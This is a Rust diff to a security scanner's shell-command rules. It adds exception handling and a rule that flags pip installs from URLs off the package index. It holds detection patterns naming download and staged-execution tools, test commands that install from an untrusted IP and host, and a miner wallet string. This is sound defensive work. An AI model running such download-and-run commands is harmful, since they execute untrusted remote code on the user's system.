@@ -108,6 +108,8 @@ pub(crate) struct CmdPattern {
     pub rule: &'static str,
     pub re: Regex,
     pub what: &'static str,
+    /// A command matching this too is not of the class.
+    pub unless: Option<Regex>,
 }
 
 static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
@@ -115,6 +117,7 @@ static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
         rule,
         re: Regex::new(re).expect("static regex compiles"),
         what,
+        unless: None,
     };
     vec![
         p(
@@ -122,6 +125,19 @@ static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
             r"(?i)\b(curl|wget)\b|invoke-webrequest|\biwr\b|downloadstring|downloadfile|start-bitstransfer|certutil[^\n]*urlcache|bitsadmin",
             "downloads with a command-line tool",
         ),
+        CmdPattern {
+            // Installing an sdist runs its build code: a package from a URL off the index
+            // and the usual code hosts is a download-and-run.
+            unless: Some(
+                Regex::new(r"(?i)://(www\.)?(github\.com|gitlab\.com|bitbucket\.org|codeberg\.org|files\.pythonhosted\.org|pypi\.org|download\.pytorch\.org)/")
+                    .expect("static regex compiles"),
+            ),
+            ..p(
+                "CMD-DOWNLOADER",
+                r"(?i)\bpip[0-9.]*(\.exe)?\s+install\b[^\n]*\s['\x22]?(git\+)?(https?|ftp)://",
+                "installs a package from a URL off the package index (its build code runs)",
+            )
+        },
         p(
             "CMD-STAGED-EXEC",
             r"(?i)\|\s*(sudo\s+)?(ba|z|da)?sh\b|\|\s*(sudo\s+)?(python[0-9.]*|perl|ruby|node)\b|\biex\b|invoke-expression|\s-e(nc|ncodedcommand|c)?\s+[a-z0-9+/=]{20,}|-w(indowstyle)?\s+hidden|\bbash\s+-c\s+.*\b(curl|wget)\b",
@@ -167,7 +183,10 @@ static CMD_PATTERNS: LazyLock<Vec<CmdPattern>> = LazyLock::new(|| {
 
 /// Shell-command rules matching `cmd`.
 pub(crate) fn command_rules(cmd: &str) -> Vec<&'static CmdPattern> {
-    CMD_PATTERNS.iter().filter(|p| p.re.is_match(cmd)).collect()
+    CMD_PATTERNS
+        .iter()
+        .filter(|p| p.re.is_match(cmd) && !p.unless.as_ref().is_some_and(|u| u.is_match(cmd)))
+        .collect()
 }
 
 #[cfg(test)]
@@ -190,6 +209,18 @@ mod tests {
             .collect();
         assert_eq!(ids, vec!["CMD-DOWNLOADER", "CMD-STAGED-EXEC"]);
         assert!(command_rules("git describe --tags").is_empty());
+        // pip installing from a URL off the index downloads and runs build code.
+        let pip = |cmd: &str| {
+            command_rules(cmd)
+                .iter()
+                .any(|p| p.rule == "CMD-DOWNLOADER")
+        };
+        assert!(pip(
+            "python -m pip install -q https://198.51.100.4/p/helper-0.1.tar.gz"
+        ));
+        assert!(pip("pip install git+https://files.example.top/x.git"));
+        assert!(!pip("pip install git+https://github.com/org/project.git"));
+        assert!(!pip("pip install requests"));
         // A miner's command line: pool host:port and a wallet, in either order.
         let wallet = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
         for cmd in [
